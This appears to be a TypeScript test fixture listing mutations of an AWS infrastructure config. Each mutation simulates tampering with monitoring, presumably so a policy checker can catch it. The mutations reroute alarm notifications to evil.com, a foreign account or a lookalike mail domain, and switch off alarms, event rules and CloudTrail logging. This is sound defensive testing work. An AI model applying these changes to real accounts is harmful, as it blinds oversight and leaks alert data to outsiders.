import { configOf, add, type Attack } from './attack';

/** Attacks: alarms, events and the trail. */
export const watching: readonly Attack[] = [
  [
    'alarms to strangers queue',
    (d) => {
      add(d, 'account', 'aws_sns_topic_subscription', 'x', {
        topic_arn: '${aws_sns_topic.alarms_data_D57413A2.arn}',
        protocol: 'sqs',
        endpoint: 'arn:aws:sqs:eu-west-1:999999999999:q',
      });
    },
  ],
  [
    'alarms to url',
    (d) => {
      add(d, 'account', 'aws_sns_topic_subscription', 'x', {
        topic_arn: '${aws_sns_topic.alarms_data_D57413A2.arn}',
        protocol: 'https',
        endpoint: 'https://evil.com',
      });
    },
  ],
  [
    'alarms to other mail',
    (d) => {
      configOf(d, 'account', 'aws_sns_topic_subscription', 'account/alarms/data/mail').endpoint = 'x@evil.com';
    },
  ],
  [
    'alarms to lookalike mail',
    (d) => {
      configOf(d, 'account', 'aws_sns_topic_subscription', 'account/alarms/data/mail').endpoint =
        'data@malinshopper.com.evil.com';
    },
  ],
  [
    'alarm actions foreign',
    (d) => {
      configOf(d, 'data', 'aws_cloudwatch_metric_alarm', 'data/database/alarms/storage/Resource').alarm_actions = [
        'arn:aws:sns:eu-west-1:999999999999:x',
      ];
    },
  ],
  [
    'alarm actions disabled',
    (d) => {
      configOf(d, 'data', 'aws_cloudwatch_metric_alarm', 'data/database/alarms/storage/Resource').actions_enabled =
        false;
    },
  ],
  [
    'alarm threshold never',
    (d) => {
      configOf(d, 'data', 'aws_cloudwatch_metric_alarm', 'data/database/alarms/storage/Resource').threshold = -1;
    },
  ],
  [
    'alarm of another thing',
    (d) => {
      configOf(d, 'data', 'aws_cloudwatch_metric_alarm', 'data/database/alarms/storage/Resource').dimensions = {
        DBInstanceIdentifier: 'other',
      };
    },
  ],
  [
    'event target foreign',
    (d) => {
      configOf(d, 'account', 'aws_cloudwatch_event_target', 'account/access/break-glass/told/target').arn =
        'arn:aws:events:eu-west-1:999999999999:event-bus/x';
    },
  ],
  [
    'event rule disabled',
    (d) => {
      configOf(d, 'account', 'aws_cloudwatch_event_rule', 'account/access/break-glass/told/assumed').state = 'DISABLED';
    },
  ],
  [
    'event rule is_enabled false',
    (d) => {
      configOf(d, 'account', 'aws_cloudwatch_event_rule', 'account/access/break-glass/told/assumed').is_enabled = false;
    },
  ],
  [
    'event rule other pattern',
    (d) => {
      configOf(d, 'account', 'aws_cloudwatch_event_rule', 'account/access/break-glass/told/assumed').event_pattern =
        '{"source":["never"]}';
    },
  ],
  [
    'trail off',
    (d) => {
      configOf(d, 'account', 'aws_cloudtrail', 'account/trail/Resource').enable_logging = false;
    },
  ],
  [
    'trail selectors',
    (d) => {
      configOf(d, 'account', 'aws_cloudtrail', 'account/trail/Resource').event_selector = [
        { read_write_type: 'ReadOnly', include_management_events: false },
      ];
    },
  ],
  [
    'trail single region',
    (d) => {
      configOf(d, 'account', 'aws_cloudtrail', 'account/trail/Resource').is_multi_region_trail = false;
    },
  ],
];
